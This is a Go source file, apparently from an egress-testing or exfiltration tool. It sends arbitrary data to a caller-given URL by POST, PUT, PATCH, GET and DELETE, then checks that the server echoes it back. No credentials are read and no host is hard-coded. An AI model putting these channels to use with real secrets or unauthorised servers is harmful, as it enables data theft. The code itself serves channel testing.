package httpverb

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"

	"github.com/tidwall/gjson"
)

var (
	// ErrTransport 请求失败 (连接、超时、代理、TLS)
	ErrTransport = errors.New("http transport error")
	// ErrDecode 响应不是预期的 JSON 或缺少回显字段
	ErrDecode = errors.New("http response decode error")
)

const (
	exfilField   = "exfil"
	maxGETLines  = 3
	maxBodyBytes = 10 << 20
)

// exfilFunc 单个方法的外传实现，url 为 base url + 小写方法名
type exfilFunc func(ctx context.Context, client *http.Client, target string, data string, filename string) (bool, error)

// postExfil multipart 文件字段上传，响应的 files.exfil 必须与原文相同
func postExfil(ctx context.Context, client *http.Client, target, data, filename string) (bool, error) {
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	fw, err := mw.CreateFormFile(exfilField, filename)
	if err != nil {
		return false, err
	}
	if _, err := io.WriteString(fw, data); err != nil {
		return false, err
	}
	if err := mw.Close(); err != nil {
		return false, err
	}

	resp, err := do(ctx, client, http.MethodPost, target, &body, mw.FormDataContentType())
	if err != nil {
		return false, err
	}
	return echoedField(resp, "files."+exfilField, data)
}

// formExfil PUT/PATCH 表单字段上传，响应的 form.exfil 必须与原文相同
func formExfil(method string) exfilFunc {
	return func(ctx context.Context, client *http.Client, target, data, _ string) (bool, error) {
		form := url.Values{exfilField: {data}}
		resp, err := do(ctx, client, method, target, strings.NewReader(form.Encode()), "application/x-www-form-urlencoded")
		if err != nil {
			return false, err
		}
		return echoedField(resp, "form."+exfilField, data)
	}
}

// queryExfil GET/DELETE 按行放入查询参数，最多前 3 行，每行都必须出现在响应文本中
func queryExfil(method string) exfilFunc {
	return func(ctx context.Context, client *http.Client, target, data, _ string) (bool, error) {
		lines := strings.Split(data, "\n")
		if len(lines) > maxGETLines {
			lines = lines[:maxGETLines]
		}
		for _, line := range lines {
			resp, err := do(ctx, client, method, target+"?"+exfilField+"="+url.QueryEscape(line), nil, "")
			if err != nil {
				return false, err
			}
			if !strings.Contains(string(resp), line) {
				return false, nil
			}
		}
		return true, nil
	}
}

func do(ctx context.Context, client *http.Client, method, target string, body io.Reader, contentType string) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, method, target, body)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrTransport, err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := client.Do(req)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrTransport, err)
	}
	defer resp.Body.Close()

	b, err := io.ReadAll(io.LimitReader(resp.Body, maxBodyBytes))
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrTransport, err)
	}
	return b, nil
}

// echoedField 从 JSON 响应中取出回显字段并与原文比较
func echoedField(body []byte, path, want string) (bool, error) {
	if !gjson.ValidBytes(body) {
		return false, fmt.Errorf("%w: response is not valid json", ErrDecode)
	}
	field := gjson.GetBytes(body, path)
	if !field.Exists() {
		return false, fmt.Errorf("%w: missing %s", ErrDecode, path)
	}
	return field.String() == want, nil
}
